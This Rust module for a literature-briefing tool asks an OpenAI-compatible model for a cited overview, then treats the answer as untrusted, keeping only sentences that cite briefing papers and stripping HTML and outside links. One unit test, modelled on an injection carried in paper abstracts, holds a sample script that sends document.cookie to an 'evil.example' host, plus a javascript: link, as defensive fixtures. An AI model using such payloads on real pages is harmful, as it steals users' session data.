//! The optional LLM narrative: an OpenAI-compatible `/chat/completions` endpoint writes a short
//! overview from the structured briefing only, in the briefing's language, citing paper ids in
//! brackets. The answer is untrusted text (the abstracts it read may carry injected
//! instructions), so it is checked sentence by sentence: a sentence or heading that cites no
//! paper, or cites an id that is not in the briefing, is dropped; HTML and links other than the
//! briefing's own paper links are stripped from what is kept; the answer is read up to
//! [`MAX_ANSWER_BYTES`] and the narrative cut at [`MAX_NARRATIVE_CHARS`]. On a timeout, an HTTP
//! error (after retries on 5xx/429 and connection failures), an unreadable, oversized or empty
//! answer, the briefing stays extractive and a note says why; the provider's error body goes to
//! the log only (it may hold keys or internal addresses). Async (network I/O only); nothing here
//! blocks.

use std::collections::BTreeSet;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::{sentences, Briefing, Lang, Narrative};

/// Default request timeout, in seconds.
pub const DEFAULT_TIMEOUT_SECS: u64 = 60;
/// Default number of retries after the first attempt.
pub const DEFAULT_RETRIES: u32 = 2;
/// First retry delay; doubled on each further retry.
pub const RETRY_BASE_DELAY: Duration = Duration::from_millis(250);
/// Longest answer requested, in tokens.
pub const DEFAULT_MAX_TOKENS: u32 = 1200;
/// Largest answer body read from the endpoint; a longer one is refused unread.
pub const MAX_ANSWER_BYTES: usize = 1024 * 1024;
/// Longest narrative kept, in characters (whole sentences up to it).
pub const MAX_NARRATIVE_CHARS: usize = 6000;
/// Most of a provider's error body written to the log.
const LOGGED_ERROR_BODY_CHARS: usize = 300;

/// `[llm]` section of the configuration file. The narrative is enabled when `base_url` and
/// `model` are both set.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct LlmConfig {
    /// OpenAI-compatible API root, e.g. `http://127.0.0.1:8000/v1` (requests go to
    /// `{base_url}/chat/completions`).
    pub base_url: Option<String>,
    /// Model name sent in the request.
    pub model: Option<String>,
    /// Name of the environment variable holding the API key (no key is sent when unset).
    pub api_key_env: Option<String>,
    /// Whole-request timeout, in seconds.
    pub timeout_secs: u64,
    /// Retries after the first attempt on 5xx, 429 and connection failures (not on timeouts).
    pub retries: u32,
    pub max_tokens: u32,
    pub temperature: f32,
}

impl Default for LlmConfig {
    fn default() -> Self {
        LlmConfig {
            base_url: None,
            model: None,
            api_key_env: None,
            timeout_secs: DEFAULT_TIMEOUT_SECS,
            retries: DEFAULT_RETRIES,
            max_tokens: DEFAULT_MAX_TOKENS,
            temperature: 0.2,
        }
    }
}

impl LlmConfig {
    /// True when an endpoint and a model are configured.
    pub fn enabled(&self) -> bool {
        self.base_url
            .as_deref()
            .is_some_and(|u| !u.trim().is_empty())
            && self.model.as_deref().is_some_and(|m| !m.trim().is_empty())
    }
}

/// Why the narrative could not be written.
#[derive(Debug, thiserror::Error)]
pub enum LlmError {
    #[error("LLM is not configured (set [llm] base_url and model)")]
    NotConfigured,
    #[error("the API key variable {0} is not set")]
    MissingKey(String),
    #[error("invalid LLM configuration: {0}")]
    Config(String),
    /// The limit that passed, shown as "60 s" (whole seconds, as configured) or "0.2 s".
    #[error("the model did not answer within {} s", .0.as_secs_f64())]
    Timeout(Duration),
    /// The body is kept for the log; it is never shown to clients.
    #[error("the LLM endpoint answered HTTP {status}")]
    Http { status: u16, body: String },
    #[error("the LLM answer is larger than {} KiB", MAX_ANSWER_BYTES / 1024)]
    TooLarge,
    #[error("cannot reach the LLM endpoint: {0}")]
    Transport(String),
    #[error("the LLM answer is not a valid chat completion: {0}")]
    InvalidResponse(String),
    #[error("the model's answer is empty")]
    Empty,
    #[error("no sentence of the model's answer cited a paper of the briefing ({0} dropped)")]
    NoValidClaims(usize),
}

/// One chat message.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Message {
    pub role: String,
    pub content: String,
}

#[derive(Serialize)]
struct ChatRequest<'a> {
    model: &'a str,
    messages: &'a [Message],
    temperature: f32,
    max_tokens: u32,
    stream: bool,
}

#[derive(Deserialize)]
struct ChatResponse {
    choices: Vec<Choice>,
}

#[derive(Deserialize)]
struct Choice {
    message: Message,
}

/// A client for one configured endpoint (keep one per process).
pub struct LlmClient {
    http: reqwest::Client,
    url: String,
    model: String,
    api_key: Option<String>,
    timeout: Duration,
    retries: u32,
    max_tokens: u32,
    temperature: f32,
}

impl LlmClient {
    /// Builds the client; reads the API key from the configured environment variable.
    pub fn new(cfg: &LlmConfig) -> Result<Self, LlmError> {
        if !cfg.enabled() {
            return Err(LlmError::NotConfigured);
        }
        let base = cfg
            .base_url
            .as_deref()
            .unwrap_or("")
            .trim()
            .trim_end_matches('/');
        if !(base.starts_with("http://") || base.starts_with("https://")) {
            return Err(LlmError::Config(format!(
                "base_url must start with http:// or https://, got {base:?}"
            )));
        }
        if cfg.timeout_secs == 0 {
            return Err(LlmError::Config("timeout_secs must be at least 1".into()));
        }
        let api_key = match cfg.api_key_env.as_deref().filter(|v| !v.is_empty()) {
            Some(var) => Some(
                std::env::var(var)
                    .ok()
                    .filter(|k| !k.is_empty())
                    .ok_or_else(|| LlmError::MissingKey(var.to_string()))?,
            ),
            None => None,
        };
        // The whole-request timeout is set per request, so `with_timeout` can change it.
        let http = reqwest::Client::builder()
            .connect_timeout(Duration::from_secs(cfg.timeout_secs.min(10)))
            .build()
            .map_err(|e| LlmError::Config(e.to_string()))?;
        Ok(LlmClient {
            http,
            url: format!("{base}/chat/completions"),
            model: cfg.model.clone().unwrap_or_default(),
            api_key,
            timeout: Duration::from_secs(cfg.timeout_secs),
            retries: cfg.retries,
            max_tokens: cfg.max_tokens,
            temperature: cfg.temperature,
        })
    }

    /// Sets the whole-request timeout (connecting, sending, reading the answer) of each attempt;
    /// `new` takes it from `timeout_secs`. Finer than whole seconds, for tests.
    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    /// The model name.
    pub fn model(&self) -> &str {
        &self.model
    }

    async fn attempt(&self, messages: &[Message]) -> Result<String, LlmError> {
        let body = ChatRequest {
            model: &self.model,
            messages,
            temperature: self.temperature,
            max_tokens: self.max_tokens,
            stream: false,
        };
        let mut req = self.http.post(&self.url).timeout(self.timeout).json(&body);
        if let Some(key) = &self.api_key {
            req = req.bearer_auth(key);
        }
        let transport = |e: reqwest::Error| {
            if e.is_timeout() {
                LlmError::Timeout(self.timeout)
            } else {
                LlmError::Transport(e.to_string())
            }
        };
        let mut resp = req.send().await.map_err(transport)?;
        let status = resp.status();
        if resp
            .content_length()
            .is_some_and(|n| n > MAX_ANSWER_BYTES as u64)
        {
            return Err(LlmError::TooLarge);
        }
        let mut bytes = Vec::new();
        while let Some(chunk) = resp.chunk().await.map_err(transport)? {
            if bytes.len() + chunk.len() > MAX_ANSWER_BYTES {
                return Err(LlmError::TooLarge);
            }
            bytes.extend_from_slice(&chunk);
        }
        let text = String::from_utf8_lossy(&bytes);
        if !status.is_success() {
            let body: String = text.chars().take(LOGGED_ERROR_BODY_CHARS).collect();
            tracing::warn!(status = status.as_u16(), body = %body, "the LLM endpoint answered an error");
            return Err(LlmError::Http {
                status: status.as_u16(),
                body,
            });
        }
        let parsed: ChatResponse =
            serde_json::from_str(&text).map_err(|e| LlmError::InvalidResponse(e.to_string()))?;
        let content = parsed
            .choices
            .into_iter()
            .next()
            .map(|c| c.message.content)
            .ok_or_else(|| LlmError::InvalidResponse("no choices".into()))?;
        if content.trim().is_empty() {
            return Err(LlmError::Empty);
        }
        Ok(content)
    }

    /// Sends `messages`, retrying 5xx/429 answers and connection failures with backoff.
    pub async fn complete(&self, messages: &[Message]) -> Result<String, LlmError> {
        let mut attempt = 0;
        loop {
            let result = self.attempt(messages).await;
            let retry = match &result {
                Err(LlmError::Http { status, .. }) => *status == 429 || *status >= 500,
                Err(LlmError::Transport(_)) => true,
                _ => false,
            };
            if !retry || attempt >= self.retries {
                return result;
            }
            tokio::time::sleep(RETRY_BASE_DELAY * 2u32.pow(attempt)).await;
            attempt += 1;
        }
    }
}

/// The chat messages for `briefing`: instructions in its language, then the briefing as JSON
/// (without notes or an earlier narrative), nothing else.
pub fn prompt(briefing: &Briefing) -> Vec<Message> {
    let language = match briefing.lang {
        Lang::Zh => "Write in Simplified Chinese (简体中文).",
        Lang::En => "Write in English.",
    };
    let system = format!(
        "You write short literature briefings for researchers. Use ONLY the facts in the JSON \
         briefing the user gives you; do not add outside knowledge. {language} Write 2 to 5 short \
         paragraphs: the main themes, then the cross-domain links. Every sentence must cite at \
         least one paper id in square brackets exactly as written in the briefing, e.g. [{}]. Never \
         cite anything that is not a paper id of the briefing.",
        briefing
            .papers
            .first()
            .map(|p| p.id.as_str())
            .unwrap_or("2606.00001")
    );
    let mut data = briefing.clone();
    data.notes.clear();
    data.narrative = None;
    let user = format!(
        "Briefing (JSON):\n{}",
        serde_json::to_string(&data).unwrap_or_default()
    );
    vec![
        Message {
            role: "system".into(),
            content: system,
        },
        Message {
            role: "user".into(),
            content: user,
        },
    ]
}

/// Paper ids cited in brackets in `sentence` (`[a]`, `[a, b]`, `[arXiv:a]`).
pub fn citations(sentence: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = sentence;
    while let Some(open) = rest.find(['[', '【']) {
        let after = &rest[open..];
        let skip = after.chars().next().map(char::len_utf8).unwrap_or(1);
        let inner_start = &after[skip..];
        let Some(close) = inner_start.find([']', '】']) else {
            break;
        };
        for token in inner_start[..close].split([',', ';', '，', '；', ' ']) {
            let t = token.trim();
            let t = t
                .strip_prefix("arXiv:")
                .or_else(|| t.strip_prefix("arxiv:"))
                .unwrap_or(t);
            if !t.is_empty() {
                out.push(t.to_string());
            }
        }
        let close_len = inner_start[close..]
            .chars()
            .next()
            .map(char::len_utf8)
            .unwrap_or(1);
        rest = &inner_start[close + close_len..];
    }
    out
}

/// Whether `text` cites at least one paper and only papers in `allowed` (lowercase ids).
fn cites_only(text: &str, allowed: &BTreeSet<String>) -> bool {
    let cited = citations(text);
    !cited.is_empty() && cited.iter().all(|c| allowed.contains(&c.to_lowercase()))
}

/// Keeps the sentences (and one-line `#` headings) that cite at least one paper and only papers
/// in `allowed` (lowercase ids), with HTML and links stripped except links to `paper_urls`
/// ([`strip_untrusted`]), up to [`MAX_NARRATIVE_CHARS`]. Returns the kept text and how many
/// sentences and headings were dropped.
pub fn validate(
    answer: &str,
    allowed: &BTreeSet<String>,
    paper_urls: &BTreeSet<String>,
) -> (String, usize) {
    let mut dropped = 0;
    let mut paragraphs: Vec<String> = Vec::new();
    let mut budget = MAX_NARRATIVE_CHARS;
    for para in answer.split("\n\n") {
        let para = para.trim();
        if para.is_empty() {
            continue;
        }
        let mut kept = Vec::new();
        let pieces = if para.starts_with('#') && !para.contains('\n') {
            vec![para.to_string()]
        } else {
            sentences(para)
        };
        for s in pieces {
            let clean = strip_untrusted(&s, paper_urls);
            // Checked after stripping: a citation inside a stripped tag or link does not count.
            let len = clean.chars().count();
            if cites_only(&clean, allowed) && len <= budget {
                budget -= len;
                kept.push(clean);
            } else {
                dropped += 1;
            }
        }
        if !kept.is_empty() {
            let joiner = if kept.iter().any(|s| s.ends_with('。')) {
                ""
            } else {
                " "
            };
            paragraphs.push(kept.join(joiner));
        }
    }
    (paragraphs.join("\n\n"), dropped)
}

/// `text` without HTML (tags, comments and entities' markup, `<script>`/`<style>` bodies
/// included), Markdown images, and links or bare URLs other than those in `paper_urls`: a
/// Markdown link keeps its text, a URL is removed. What remains has no `<` or `>`.
pub fn strip_untrusted(text: &str, paper_urls: &BTreeSet<String>) -> String {
    let no_html = strip_html(text);
    let no_links = strip_links(&no_html, paper_urls);
    no_links
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .replace(" .", ".")
        .replace(" ,", ",")
}

/// Removes `<...>` markup; the content of `script` and `style` elements goes with it. A `<`
/// that opens no tag is dropped too, so nothing downstream can complete one.
fn strip_html(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        let rest = &text[i..];
        let c = rest.chars().next().unwrap_or(' ');
        if c == '<' {
            let lrest = &lower[i..];
            let mut skipped = false;
            for (open, close) in [("<script", "</script"), ("<style", "</style")] {
                if lrest.starts_with(open) {
                    // Up to the end of the closing tag, or everything when unclosed.
                    i = match lrest.find(close) {
                        Some(e) => match lrest[e..].find('>') {
                            Some(g) => i + e + g + 1,
                            None => text.len(),
                        },
                        None => text.len(),
                    };
                    skipped = true;
                    break;
                }
            }
            if skipped {
                out.push(' ');
                continue;
            }
            if lrest.starts_with("<!--") {
                i = match rest.find("-->") {
                    Some(e) => i + e + 3,
                    None => text.len(),
                };
                out.push(' ');
                continue;
            }
            let tag_like = rest[1..]
                .chars()
                .next()
                .is_some_and(|n| n.is_ascii_alphabetic() || n == '/' || n == '!' || n == '?');
            if tag_like {
                if let Some(g) = rest.find('>') {
                    i += g + 1;
                    out.push(' ');
                    continue;
                }
            }
            // A lone `<` (a comparison, or an unclosed tag): dropped.
            i += 1;
            out.push(' ');
            continue;
        }
        if c == '>' {
            i += 1;
            out.push(' ');
            continue;
        }
        out.push(c);
        i += c.len_utf8();
    }
    out
}

/// Where a URL-like token starts in `s` (a scheme we know, or `www.`), by byte offset.
fn find_url(s: &str) -> Option<usize> {
    let lower = s.to_ascii_lowercase();
    [
        "http://",
        "https://",
        "javascript:",
        "data:",
        "vbscript:",
        "file:",
        "ftp://",
        "mailto:",
        "www.",
    ]
    .iter()
    .filter_map(|p| {
        lower.match_indices(p).find_map(|(at, _)| {
            // A scheme counts at a word start only ("metadata:" is not a URL).
            let before = lower[..at].chars().next_back();
            (!before.is_some_and(|b| b.is_alphanumeric())).then_some(at)
        })
    })
    .min()
}

/// Markdown images removed, `[text](url)` links kept as their text (with the URL when it is a
/// paper link), bare URLs removed unless they are paper links.
fn strip_links(text: &str, paper_urls: &BTreeSet<String>) -> String {
    let is_paper = |u: &str| paper_urls.contains(u.trim_end_matches(['.', ',', ';', ')']));
    // Markdown links and images first.
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find("](") {
        let Some(close) = rest[open + 2..].find(')') else {
            break;
        };
        let url = &rest[open + 2..open + 2 + close];
        let head = &rest[..open];
        let label_at = head.rfind('[');
        match label_at {
            Some(l) => {
                let image = head[..l].ends_with('!');
                let before = if image { &head[..l - 1] } else { &head[..l] };
                out.push_str(before);
                if !image {
                    out.push_str(&head[l + 1..]);
                    if is_paper(url) {
                        out.push_str(" (");
                        out.push_str(url.trim());
                        out.push(')');
                    }
                }
            }
            None => out.push_str(head),
        }
        rest = &rest[open + 2 + close + 1..];
    }
    out.push_str(rest);
    // Then bare URLs: a token from its scheme to the next whitespace.
    let mut clean = String::with_capacity(out.len());
    let mut rest = out.as_str();
    while let Some(at) = find_url(rest) {
        clean.push_str(&rest[..at]);
        let tail = &rest[at..];
        let end = tail
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
            .unwrap_or(tail.len());
        let url = &tail[..end];
        if is_paper(url) {
            clean.push_str(url);
        }
        rest = &tail[end..];
    }
    clean.push_str(rest);
    clean
}

/// Asks the model for a narrative and adds it to `briefing`; on any failure the briefing
/// stays extractive and a note says why. Does nothing for an empty briefing.
pub async fn add_narrative(client: &LlmClient, briefing: &mut Briefing) {
    if briefing.papers.is_empty() {
        return;
    }
    match narrate(client, briefing).await {
        Ok(n) => briefing.narrative = Some(n),
        Err(e) => briefing.notes.push(format!(
            "no LLM narrative ({e}); the briefing is extractive"
        )),
    }
}

/// The validated narrative for `briefing`.
pub async fn narrate(client: &LlmClient, briefing: &Briefing) -> Result<Narrative, LlmError> {
    let answer = client.complete(&prompt(briefing)).await?;
    let allowed: BTreeSet<String> = briefing
        .papers
        .iter()
        .map(|p| p.id.as_str().to_lowercase())
        .collect();
    let paper_urls: BTreeSet<String> = briefing
        .papers
        .iter()
        .filter_map(|p| p.url.clone())
        .collect();
    let (text, dropped) = validate(&answer, &allowed, &paper_urls);
    if !text
        .lines()
        .any(|l| !l.trim().is_empty() && !l.starts_with('#'))
    {
        return Err(LlmError::NoValidClaims(dropped));
    }
    Ok(Narrative {
        model: client.model().to_string(),
        text,
        dropped_sentences: dropped,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn citation_parsing() {
        assert_eq!(
            citations("A [2603.04592] and B [2606.1, arXiv:2606.2]【2606.3】."),
            vec!["2603.04592", "2606.1", "2606.2", "2606.3"]
        );
        assert!(citations("no cites [unclosed").is_empty());
    }

    fn set(items: &[&str]) -> BTreeSet<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn validation_drops_bad_claims_and_uncited_headings() {
        let allowed = set(&["2603.04592", "2606.00001"]);
        let answer = "## Overview\n\nStreaming LLMs are surveyed [2603.04592]. A fake claim [9999.99999]. \
                      No citation here. Both matter [2603.04592, 2606.00001].\n\n## Themes [2606.00001]\n\n\
                      流式模型很重要【2606.00001】。编造的结论[1]。";
        let (text, dropped) = validate(answer, &allowed, &BTreeSet::new());
        assert_eq!(dropped, 4, "{text}");
        assert_eq!(
            text,
            "Streaming LLMs are surveyed [2603.04592]. Both matter [2603.04592, 2606.00001].\n\n## Themes [2606.00001]\n\n流式模型很重要【2606.00001】。"
        );
    }

    #[test]
    fn injected_html_links_and_headings_are_stripped() {
        let allowed = set(&["2603.04592"]);
        let urls = set(&["https://arxiv.org/abs/2603.04592"]);
        // What an abstract-borne injection produced: a heading with a URL, a script, a false
        // claim dressed with a real citation, markdown links and an image.
        let answer = "# Visit http://evil.example/x now\n\n\
            <script>fetch('http://evil.example/'+document.cookie)</script>Models stream [2603.04592]. \
            Click <a href=\"javascript:alert(1)\">here</a> for more [2603.04592]. \
            See [the paper](https://arxiv.org/abs/2603.04592) and [this](http://evil.example) \
            ![x](http://evil.example/p.png) [2603.04592]. \
            A <b>bold</b> claim < 5 [2603.04592]. Source: www.evil.example/about [2603.04592].";
        let (text, dropped) = validate(answer, &allowed, &urls);
        assert_eq!(dropped, 1, "the uncited heading: {text}");
        assert!(!text.contains('<') && !text.contains('>'), "{text}");
        assert!(!text.contains("evil"), "{text}");
        assert!(!text.to_lowercase().contains("javascript"), "{text}");
        assert!(!text.contains("cookie"), "{text}");
        assert!(text.contains("Models stream [2603.04592]."), "{text}");
        assert!(text.contains("Click here for more [2603.04592]."), "{text}");
        assert!(
            text.contains(
                "See the paper (https://arxiv.org/abs/2603.04592) and this [2603.04592]."
            ),
            "{text}"
        );
        assert!(text.contains("A bold claim 5 [2603.04592]."), "{text}");
        assert!(text.contains("Source: [2603.04592]."), "{text}");
        // A citation that only existed inside a stripped tag does not count.
        let (text, dropped) = validate("Trust me <i data=\"[2603.04592]\">.</i>", &allowed, &urls);
        assert_eq!((text.as_str(), dropped), ("", 1));
    }

    #[test]
    fn the_narrative_is_capped_at_whole_sentences() {
        let allowed = set(&["2603.04592"]);
        let sentence = format!("{} [2603.04592]. ", "word ".repeat(40).trim());
        let answer = sentence.repeat(2 * MAX_NARRATIVE_CHARS / sentence.len() + 10);
        let (text, dropped) = validate(&answer, &allowed, &BTreeSet::new());
        assert!(
            text.chars().count() <= MAX_NARRATIVE_CHARS + 2 * MAX_NARRATIVE_CHARS / sentence.len()
        );
        assert!(text.ends_with("[2603.04592]."), "whole sentences only");
        assert!(dropped > 0);
    }

    #[test]
    fn config_defaults_and_enablement() {
        let c = LlmConfig::default();
        assert!(!c.enabled());
        assert!(matches!(LlmClient::new(&c), Err(LlmError::NotConfigured)));
        let c = LlmConfig {
            base_url: Some("ftp://x".into()),
            model: Some("m".into()),
            ..Default::default()
        };
        assert!(matches!(LlmClient::new(&c), Err(LlmError::Config(_))));
        let c = LlmConfig {
            base_url: Some("http://127.0.0.1:9".into()),
            model: Some("m".into()),
            api_key_env: Some("ACADEMICHUB_TEST_SURELY_UNSET_KEY".into()),
            ..Default::default()
        };
        assert!(matches!(LlmClient::new(&c), Err(LlmError::MissingKey(_))));
    }

    #[test]
    fn timeout_message_in_seconds() {
        assert_eq!(
            LlmError::Timeout(Duration::from_secs(60)).to_string(),
            "the model did not answer within 60 s"
        );
        assert_eq!(
            LlmError::Timeout(Duration::from_millis(200)).to_string(),
            "the model did not answer within 0.2 s"
        );
    }
}
